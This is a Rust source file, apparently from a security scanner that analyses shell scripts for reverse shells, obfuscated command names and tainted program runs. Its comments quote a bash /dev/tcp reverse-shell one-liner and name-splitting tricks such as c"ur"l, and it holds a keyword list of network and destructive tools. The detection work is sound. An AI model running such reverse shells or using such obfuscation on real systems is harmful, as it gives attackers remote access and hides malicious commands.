//! What programs do that a shell or a script starts.

mod agents;
mod files;
mod interpreters;
mod network;
mod options;
mod packages;
mod system;

use super::analysis::Analysis;
use super::hosts::HOLE_TEXT;
use super::ir::Direction;
use super::language::Language;
use super::origin::Tag;
use super::rules;
use super::value::{Known, Taint, Value};
use crate::{Confidence, Severity, Use};

/// A program with its arguments and its input.
#[derive(Debug, Clone, Default)]
pub(super) struct Run {
    /// The name without folder and suffix, in lower case.
    pub(super) name: String,
    pub(super) program: Value,
    pub(super) args: Vec<Value>,
    pub(super) input: Option<Value>,
}

impl Run {
    /// The arguments as far as known, holes marked.
    pub(super) fn words(&self) -> Vec<String> {
        self.args.iter().map(|arg| arg.pattern(HOLE_TEXT).unwrap_or_default()).collect()
    }

    pub(super) fn has(&self, wanted: &[&str]) -> bool {
        self.args
            .iter()
            .any(|arg| arg.known_text().is_some_and(|text| wanted.contains(&text.as_str())))
    }

    pub(super) fn taint(&self) -> Taint {
        let mut taint = Value::list(self.args.clone()).taint;
        if let Some(input) = &self.input {
            taint.join(&input.taint);
        }
        taint
    }

    pub(super) fn input_or_default(&self) -> Value {
        self.input.clone().unwrap_or_default()
    }
}

impl Analysis {
    pub(crate) fn take_input(&mut self) -> Option<Value> {
        self.input.take()
    }

    pub(crate) fn give_input(&mut self, input: Option<Value>) {
        self.input = input;
    }

    /// The input that redirections give.
    pub(crate) fn redirected_input(&mut self, redirects: &[(Direction, Value)]) -> Option<Value> {
        let mut input = None;
        for (direction, value) in redirects {
            match direction {
                Direction::Text => input = Some(value.clone()),
                Direction::From => input = Some(self.read_path(value)),
                _ => {}
            }
        }
        input
    }

    /// Output goes where redirections send it.
    pub(crate) fn redirect_output(
        &mut self,
        value: &Value,
        redirects: &[(Direction, Value)],
    ) -> bool {
        let mut moved = false;
        for (direction, to) in redirects {
            if matches!(direction, Direction::To | Direction::Append) {
                self.write_path(to, value, *direction == Direction::Append);
                moved = true;
            }
        }
        moved
    }

    /// Runs a command of a shell script.
    pub(crate) fn shell_command(
        &mut self,
        words: Vec<Value>,
        input: Value,
        redirects: &[(Direction, Value)],
        variables: &[(String, Value)],
        computed: bool,
    ) -> Value {
        let mut input = match input.is_known() || !input.taint.is_empty() {
            true => Some(input),
            false => None,
        };
        if let Some(given) = self.redirected_input(redirects) {
            input = Some(given);
        }
        for (name, value) in variables {
            self.assigned(name, value);
            self.set(name, value.clone());
        }
        self.joined_shell(&words, redirects);
        if computed {
            self.computed_command(&words);
        }
        self.input = input;
        let value = self.program(words, None);
        self.input = None;
        match self.redirect_output(&value, redirects) {
            true => Value::default(),
            false => value,
        }
    }

    /// `bash -i >& /dev/tcp/host/port 0>&1` and its kin.
    fn joined_shell(&mut self, words: &[Value], redirects: &[(Direction, Value)]) {
        let target = redirects.iter().any(|(_, to)| {
            to.pattern(HOLE_TEXT)
                .is_some_and(|to| to.starts_with("/dev/tcp/") || to.starts_with("/dev/udp/"))
        });
        let name = words.first().and_then(Value::known_text).unwrap_or_default();
        if target {
            let host = redirects.iter().find_map(|(_, to)| {
                let to = to.pattern(HOLE_TEXT)?;
                to.strip_prefix("/dev/tcp/")?.split('/').next().map(str::to_owned)
            });
            self.can(Use::Network(host));
            if is_shell(base(&name)) {
                self.reverse_shell("input and output");
                return;
            }
            // `exec 5<>/dev/tcp/…`, then a shell reads from it.
            if name == "exec" {
                self.joined.connection = Some(self.here);
            }
        }
        let copies = redirects.iter().any(|(to, _)| *to == Direction::Duplicate);
        if copies && is_shell(base(&name)) && self.joined.connection.is_some() {
            self.reverse_shell("input and output");
        }
    }

    fn computed_command(&mut self, words: &[Value]) {
        let Some(first) = words.first() else { return };
        let Some(name) = first.known_text() else { return };
        let shown = self.line(self.here);
        let base = base(&name);
        // `"$DIR/bin/python"` is a manner of writing; `c"ur"l` and `${a}${b}` that give `curl` are not.
        let plain = shown.contains(base) || name.contains('/');
        let matters = is_shell(base)
            || matches!(
                base,
                "curl"
                    | "wget"
                    | "iex"
                    | "invoke-expression"
                    | "iwr"
                    | "irm"
                    | "nc"
                    | "ncat"
                    | "eval"
                    | "base64"
                    | "rm"
                    | "dd"
                    | "chmod"
                    | "osascript"
                    | "ssh"
                    | "scp"
            );
        if matters && !plain {
            self.report(
                &rules::COMPUTED_NAME,
                Severity::High,
                Confidence::High,
                format!(
                    "`{}` is run by a name that is put together from pieces.",
                    super::excerpt::safe(base)
                ),
                &first.taint,
            );
        }
    }

    /// Runs a program: the first word is its name.
    pub(crate) fn program(&mut self, words: Vec<Value>, fixed: Option<&str>) -> Value {
        let input = self.input.take();
        if self.depth >= 20 || self.steps_left == 0 {
            return Value::default();
        }
        self.steps_left -= 1;
        let mut words = words.into_iter();
        let Some(program) = words.next() else { return Value::default() };
        let args: Vec<Value> = words.collect();
        let shown = match fixed {
            Some(name) => Some(name.to_owned()),
            None => program.pattern(HOLE_TEXT),
        };
        let Some(shown) = shown.filter(|shown| shown != HOLE_TEXT) else {
            self.ran(&program.taint, "as a program");
            self.can(Use::Exec(None));
            let mut taint = Value::list(args).taint;
            taint.join(&program.taint);
            return Value::tainted(taint);
        };
        // One text that holds a whole command line: `cmd = "curl …"; $cmd`.
        if shown.trim().contains(' ')
            && args.is_empty()
            && self.language() == Language::Shell
            && !shown.contains('/')
        {
            let words = shown.split_whitespace().map(Value::text).collect();
            self.depth += 1;
            self.input = input;
            let value = self.program(words, None);
            self.depth -= 1;
            return value.with(&program.taint);
        }
        let name = base(&shown).to_ascii_lowercase();
        let name = name.strip_suffix(".exe").unwrap_or(&name).to_owned();
        if let Some(function) = self.function_named(&shown)
            && matches!(self.language(), Language::Shell | Language::PowerShell)
        {
            self.input = input;
            let value = self.follow(self.here.0, function, args, &[]);
            self.input = None;
            return value;
        }
        let run = Run { name, program, args, input };
        self.depth += 1;
        let value = self.known_program(&run);
        self.depth -= 1;
        value
    }

    fn known_program(&mut self, run: &Run) -> Value {
        if !is_builtin(&run.name) {
            self.can(Use::Exec(Some(run.name.clone())));
        }
        if let Some(value) = self.interpreter(run) {
            return value;
        }
        if let Some(value) = self.network_program(run) {
            return value;
        }
        if let Some(value) = self.file_program(run) {
            return value;
        }
        if let Some(value) = self.package_program(run) {
            return value;
        }
        if let Some(value) = self.agent_program(run) {
            return value;
        }
        if let Some(value) = self.system_program(run) {
            return value;
        }
        let path = run.program.pattern(HOLE_TEXT).unwrap_or_default();
        let input = run.input.clone();
        if path.contains(['/', '\\']) || run.program.taint != Taint::default() {
            let value = self.run_file(&run.program.clone(), &run.args, input);
            return value.with(&run.taint());
        }
        Value::tainted(run.taint())
    }

    /// A variable of a shell that the script does not set.
    pub(crate) fn shell_variable(&mut self, name: &str) -> Value {
        match name {
            "HOME" => Value::text("~"),
            "PWD" | "OLDPWD" => Value::text("."),
            "IFS" => Value::text(" "),
            "TMPDIR" => Value::text("/tmp"),
            "UID" | "EUID" | "RANDOM" | "SECONDS" | "LINENO" | "?" | "!" | "$" | "#" | "PATH"
            | "SHELL" | "OSTYPE" | "BASH_SOURCE" | "ARCH" | "BASH_VERSION" | "HOSTTYPE"
            | "MACHTYPE" | "TERM" | "0" => Value::default(),
            "EPOCHSECONDS" => {
                let origin = self.origin(Tag::Clock);
                Value::tainted(origin)
            }
            "@" | "*" | "REPLY" => {
                let origin = self.origin(Tag::Argument);
                let input = self.unit().map(|unit| unit.input.clone()).unwrap_or_default();
                input.with(&origin)
            }
            name if name.chars().all(|c| c.is_ascii_digit()) => {
                let origin = self.origin(Tag::Argument);
                let input = self.unit().map(|unit| unit.input.clone()).unwrap_or_default();
                let at = name.parse::<usize>().ok().and_then(|at| at.checked_sub(1));
                let value = match (&input.known, at) {
                    (Known::List(values), Some(at)) => values.get(at).cloned().unwrap_or_default(),
                    _ => Value::tainted(input.taint),
                };
                value.with(&origin)
            }
            "CLAUDE_PLUGIN_ROOT" | "SKILL_DIR" | "CLAUDE_SKILL_DIR" | "CLAUDE_PROJECT_DIR"
            | "SCRIPT_DIR" => Value::text("."),
            name => self.environment_variable(name),
        }
    }
}

/// The last part of a path.
pub(super) fn base(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

pub(super) fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "fish"
            | "ash"
            | "cmd"
            | "cmd.exe"
            | "powershell"
            | "pwsh"
            | "powershell.exe"
            | "busybox"
    )
}

fn is_builtin(name: &str) -> bool {
    matches!(
        name,
        "echo"
            | "printf"
            | "cd"
            | "export"
            | "set"
            | "test"
            | "["
            | "true"
            | "false"
            | ":"
            | "local"
            | "return"
            | "exit"
            | "read"
            | "shift"
            | "eval"
            | "source"
            | "."
            | "trap"
            | "unset"
            | "declare"
            | "exec"
            | "pwd"
            | "wait"
            | "let"
            | "break"
            | "continue"
            | "alias"
            | "type"
            | "hash"
            | "umask"
            | "shopt"
            | "getopts"
            | "[["
    )
}
